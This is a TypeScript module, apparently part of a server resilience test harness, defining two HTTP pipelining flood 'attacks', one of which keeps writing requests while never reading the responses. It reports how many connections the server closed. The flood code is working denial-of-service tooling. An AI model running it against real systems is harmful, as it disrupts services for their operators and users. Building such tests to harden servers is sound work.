import { setTimeout as sleep } from 'node:timers/promises';
import { defineAttack, type AttackTarget } from './attack.ts';
import { openConnection, rawRequest } from './raw-connection.ts';

const SEND_INTERVAL = 50;
const MEBIBYTE = 2 ** 20;

/** Sends requests without waiting for the previous responses. */
export const pipelining = defineAttack({
  summary: '4 anonymous connections send 1.2 MiB/s of pipelined requests',
  run: (target) => flood(target, { connections: 4, rate: 1.2 * MEBIBYTE, shouldRead: true }),
});

/** Pipelines requests without reading the responses. */
export const unreadResponses = defineAttack({
  summary: '20 anonymous connections send pipelined requests and read no response',
  run: (target) => flood(target, { connections: 20, rate: 12 * MEBIBYTE, shouldRead: false }),
});

interface Flood {
  readonly connections: number;
  /** Bytes per second of all connections together. */
  readonly rate: number;
  readonly shouldRead: boolean;
}

async function flood(target: AttackTarget, { connections, rate, shouldRead }: Flood) {
  const { signal } = target;
  const request = rawRequest('/');
  const burst = (rate / connections) * (SEND_INTERVAL / 1000);
  const piece = Buffer.from(request.repeat(Math.ceil(burst / request.length)));
  let opened = 0;
  let closed = 0;
  let bytesSent = 0;
  let bytesRead = 0;

  async function attackFromOneConnection(): Promise<void> {
    while (!signal.aborted) {
      const socket = openConnection(target);
      opened += 1;
      socket.on('close', () => {
        closed += signal.aborted ? 0 : 1;
        bytesRead += socket.bytesRead;
        bytesSent += socket.bytesWritten;
      });
      if (shouldRead) socket.resume();
      while (!signal.aborted && !socket.destroyed) {
        if (!socket.writableNeedDrain) socket.write(piece);
        await sleep(SEND_INTERVAL);
      }
    }
  }

  await Promise.all(Array.from({ length: connections }, attackFromOneConnection));
  return { opened, closedByServer: closed, bytesSent, bytesRead };
}
